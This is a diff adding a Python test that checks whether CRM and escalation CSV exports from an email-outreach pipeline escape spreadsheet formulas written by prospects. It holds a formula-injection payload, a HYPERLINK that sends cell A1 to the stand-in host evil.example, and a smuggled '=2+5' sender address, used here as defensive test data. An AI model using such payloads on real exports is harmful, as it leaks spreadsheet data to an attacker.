@@ -11,6 +11,8 @@ import json
 import mailbox
 import shutil
 from datetime import UTC, datetime
+from email.message import EmailMessage
+from email.utils import format_datetime
 from pathlib import Path
 
 import dagster as dg
@@ -353,6 +355,37 @@ def test_crm_exports_parse_back_with_the_crm_columns_and_filled_rows(world):
 
     _ok(world, "export", "crm", "--format", "csv", "--out", str(out), "--since", "2026-12-01")
     assert read("escalations_crm.csv")[1] == [], "nothing happened since December"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Interested - click for my calendar")'
+
+
+def test_no_cell_a_prospect_wrote_runs_as_a_formula_in_the_escalations_and_crm_files(world):
+    interested = _by_label(_queue(world), "interested")[0]
+    _reply_again(world, interested, FORMULA, datetime(2026, 11, 24, 16, tzinfo=UTC))
+    stranger = EmailMessage()
+    stranger["From"], stranger["To"], stranger["Subject"] = "=2+5@evil.example", _send_of(world, interested)[
+        "mailbox"], "Re: hello"
+    stranger["Date"], stranger["Message-ID"] = format_datetime(datetime(2026, 11, 24, 16, tzinfo=UTC)), "<f@evil.example>"
+    stranger["In-Reply-To"] = "<anything@evil.example>"
+    stranger.set_content("Yes, very interested. Can we set up a call this week?")
+    mailbox.Maildir(build_resources(_env(world))["mailbox"].path, create=True).add(stranger)
+    now = "2026-11-24T16:30:00+00:00"
+    _replies(world, now)
+    out = world / "crm"
+    for fmt in ("hubspot", "salesforce", "csv"):
+        _ok(world, "export", "crm", "--format", fmt, "--out", str(out), now=now)
+    cells = {}
+    for path in (world / "exports" / "escalations.csv", *sorted(out.glob("*.csv"))):
+        with path.open(newline="", encoding="utf-8") as fh:
+            cells[path.name] = [v for row in csv.reader(fh) for v in row]
+    assert set(cells) == {"escalations.csv", "hubspot_contacts.csv", "hubspot_notes.csv", "salesforce_leads.csv",
+                          "escalations_crm.csv"}
+    for name, values in cells.items():
+        assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")], name
+    assert "'" + FORMULA in cells["escalations.csv"] and "'=2+5" in cells["escalations.csv"]
+    for name in ("hubspot_contacts.csv", "salesforce_leads.csv", "escalations_crm.csv"):
+        assert "'=2+5@evil.example" in cells[name] and "'=2+5" in cells[name], name
 
 
 def queue_reply(queue: dict[str, dict], email: str) -> str:
